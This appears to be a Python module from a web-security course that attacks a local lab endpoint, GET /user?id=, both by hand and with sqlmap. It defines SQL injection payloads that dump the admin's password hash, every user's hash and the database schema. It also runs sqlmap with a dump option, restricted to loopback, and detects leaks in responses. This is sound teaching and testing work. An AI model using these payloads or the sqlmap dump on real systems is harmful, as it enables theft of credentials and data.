"""Securing an Endpoint: the attacks on ``GET /user?id=``, by hand and with sqlmap.

* ``get_user(app, id_text)`` sends one request to an app in-process (FastAPI's
  TestClient) and returns a ``Reply`` (status, parsed body, headers, text);
* ``dump_admin_hash(app)`` is the UNION injection that puts the admin's password hash
  where the name should be; ``provoke_error(app)`` sends a quote and looks for what the
  error response gives away; ``leak_findings`` names what a response leaks;
* ``run_sqlmap(url, output_dir)`` runs the real sqlmap (a pinned dependency of the
  course) against a served app, with a fixed technique and short time-outs, and reports
  whether it found the injection and which rows it dumped.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess  # runs sqlmap, a pinned tool of the course, with a fixed argv  # nosec B404
import sys
import time
import warnings
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from seclab.attacks import AttackResult
from seclab.server import require_loopback

#: the UNION injection that shows the admin's password hash in the "name" field
ADMIN_HASH_PAYLOAD = "0 UNION SELECT id, password_hash, email FROM users WHERE role = 'admin'"
#: every user's name and hash in one field, separated by ";"
DUMP_ALL_PAYLOAD = "0 UNION SELECT 0, group_concat(name || ':' || password_hash, ';'), 'dump' FROM users"
#: a lone quote: the SQL text no longer parses
ERROR_PAYLOAD = "1'"
#: classic payloads, for the playground and the tests
PAYLOADS = [
    "1 OR 1=1",
    "0 OR role = 'admin'",
    "(SELECT id FROM users WHERE role = 'admin')",
    ADMIN_HASH_PAYLOAD,
    DUMP_ALL_PAYLOAD,
    "0 UNION SELECT 0, sql, name FROM sqlite_master",
    ERROR_PAYLOAD,
]

_SQL_TEXT = re.compile(r"\bselect\b.*\bfrom\b|\bfrom\s+users\b|\bwhere\s+id\b|\bcreate\s+table\b",
                       re.I | re.S)
_DATABASE_ERRORS = ("sqlite", "operationalerror", "programmingerror", "interfaceerror", "databaseerror",
                    "integrityerror", "overflowerror", "syntax error", "no such column", "no such table",
                    "unrecognized token", "incomplete input", "too large to convert")
#: echoed input shorter than this is only removed where it is a whole JSON string (too short to hide SQL text)
_SHORTEST_REMOVED_ECHO = 8
_TRACEBACK = re.compile(r"traceback \(most recent call last\)|\bfile \"[^\"]*\", line \d+|\.py\", line \d+", re.I)


@dataclass(frozen=True)
class Reply:
    """One HTTP response as plain data."""

    status: int
    body: Any
    text: str
    headers: dict[str, str] = field(default_factory=dict)


def in_process_client(app: Any) -> Any:
    """FastAPI's TestClient for ``app`` that returns server errors as responses (500) instead of raising."""
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", message="Using `httpx` with `starlette.testclient`")  # httpx is pinned
        from fastapi.testclient import TestClient
    return TestClient(app, raise_server_exceptions=False)


def send(app: Any, query: str) -> Reply:
    """``GET /user?<query>`` (a raw, already encoded query string) on ``app``, in-process."""
    response = in_process_client(app).get("/user?" + query if query else "/user")
    try:
        body = response.json()
    except ValueError:
        body = response.text
    return Reply(response.status_code, body, response.text, dict(response.headers))


def get_user(app: Any, id_text: str) -> Reply:
    """``GET /user?id=<id_text>`` on ``app`` (the value URL-encoded), in-process."""
    from urllib.parse import urlencode

    return send(app, urlencode({"id": id_text}))


def _without(value: Any, echoed: set[str]) -> Any:
    """``value`` (parsed JSON) without the strings the request itself sent (FastAPI's 422 echoes them)."""
    if isinstance(value, dict):
        return {key: _without(item, echoed) for key, item in value.items() if not (key == "input" and item in echoed)}
    if isinstance(value, list):
        return [_without(item, echoed) for item in value]
    if isinstance(value, str) and value in echoed:
        return ""
    return value


def leak_findings(text: str, secrets: Iterable[str], sent: Iterable[str] = (),
                  headers: dict[str, str] | None = None) -> list[str]:
    """What a response gives away: "password hash", "SQL text", "database error", "traceback".

    ``text`` is the body, ``secrets`` the password hashes in the database, ``sent`` the
    values the request sent (echoes of the attacker's own input are not leaks).
    """
    echoed = {value for value in sent if value}
    try:
        scanned = json.dumps(_without(json.loads(text), echoed), ensure_ascii=False)
    except ValueError:
        scanned = text
    for value in sorted(echoed, key=len, reverse=True):
        if len(value) >= _SHORTEST_REMOVED_ECHO:  # removing "1" everywhere would blank out the secrets too
            scanned = scanned.replace(value, "").replace(json.dumps(value, ensure_ascii=False)[1:-1], "")
    scanned += "\n" + "\n".join(f"{name}: {value}" for name, value in (headers or {}).items())
    found = []
    pieces = {piece for secret in secrets if secret for piece in [secret, *secret.split("$")] if len(piece) >= 16}
    if any(piece in scanned for piece in pieces):
        found.append("password hash")
    if _SQL_TEXT.search(scanned):
        found.append("SQL text")
    if any(marker in scanned.lower() for marker in _DATABASE_ERRORS):
        found.append("database error")
    if _TRACEBACK.search(scanned):
        found.append("traceback")
    return found


def dump_admin_hash(app: Any, admin_hash: str) -> AttackResult:
    """The UNION injection: does the response show the admin's password hash?"""
    reply = get_user(app, ADMIN_HASH_PAYLOAD)
    return AttackResult(ADMIN_HASH_PAYLOAD, admin_hash in reply.text, f"{reply.status} {reply.text[:300]}")


def provoke_error(app: Any, secrets: Iterable[str] = ()) -> AttackResult:
    """Send a lone quote: does the error response leak the query, the database error or a traceback?"""
    reply = get_user(app, ERROR_PAYLOAD)
    found = leak_findings(reply.text, secrets, [ERROR_PAYLOAD], reply.headers)
    return AttackResult(ERROR_PAYLOAD, bool(found), f"{reply.status}; leaks: {', '.join(found) or 'nothing'}")


# --- sqlmap ------------------------------------------------------------------------------------

#: sqlmap's options in this lesson: no questions, UNION technique only, SQLite, short time-outs
SQLMAP_OPTIONS = ["--batch", "--technique=U", "--dbms=SQLite", "--skip-waf", "--timeout=5", "--retries=0",
                  "--disable-coloring", "--flush-session", "-T", "users", "--dump"]


@dataclass(frozen=True)
class SqlmapReport:
    """What sqlmap found: is ``id`` injectable, which rows did it dump, and its own words."""

    injectable: bool
    rows: list[dict[str, str]]
    log: str
    seconds: float
    returncode: int

    def summary(self) -> str:
        verdict = "injectable" if self.injectable else "not injectable"
        return f"sqlmap: GET parameter 'id' {verdict}; {len(self.rows)} rows dumped in {self.seconds:.1f} s"


def sqlmap_command() -> list[str]:
    """How to start the sqlmap of this environment (its console script next to this Python)."""
    script = Path(sys.executable).with_name("sqlmap")
    if script.exists():
        return [str(script)]
    return [sys.executable, "-c", "import sys; from sqlmap.sqlmap import main; sys.exit(main())"]


def run_sqlmap(url: str, output_dir: str | Path, timeout: float = 60.0) -> SqlmapReport:
    """Run sqlmap against ``url`` (on 127.0.0.1 only) with ``SQLMAP_OPTIONS``.

    Its session and dumps go to ``output_dir``; the run is stopped after ``timeout``
    seconds (subprocess.TimeoutExpired). ``rows`` come from the CSV file sqlmap dumps.
    """
    require_loopback(url)
    output = Path(output_dir)
    output.mkdir(parents=True, exist_ok=True)
    started = time.monotonic()
    environment = {**os.environ, "TERM": "dumb", "HOME": str(output)}  # sqlmap keeps its history under HOME
    completed = subprocess.run(  # fixed argv, no shell; the URL is on loopback (checked above)  # nosec B603
        [*sqlmap_command(), "-u", url, *SQLMAP_OPTIONS, "--output-dir", str(output)],
        capture_output=True, text=True, timeout=timeout, env=environment, stdin=subprocess.DEVNULL, check=False)
    seconds = time.monotonic() - started
    log = completed.stdout + completed.stderr
    injectable = bool(re.search(r"parameter 'id' is .* injectable", log)) and "do not appear to be injectable" not in log
    rows: list[dict[str, str]] = []
    for dump in sorted(output.glob("**/dump/**/users.csv")):
        with dump.open(newline="", encoding="utf-8") as stream:
            rows += [dict(row) for row in csv.DictReader(stream)]
    return SqlmapReport(injectable, rows, log, seconds, completed.returncode)


def sqlmap_lines(report: SqlmapReport, keep: tuple[str, ...] = ("[INFO]", "[WARNING]", "[CRITICAL]", "Payload:",
                                                                 "Type:", "Title:", "| ")) -> str:
    """The lines of sqlmap's output worth reading (no banner, no terminal escapes)."""
    lines = [re.sub(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b[()][A-Za-z0-9]", "", line).rstrip()
             for line in report.log.splitlines()]
    return "\n".join(line for line in lines if any(marker in line for marker in keep))
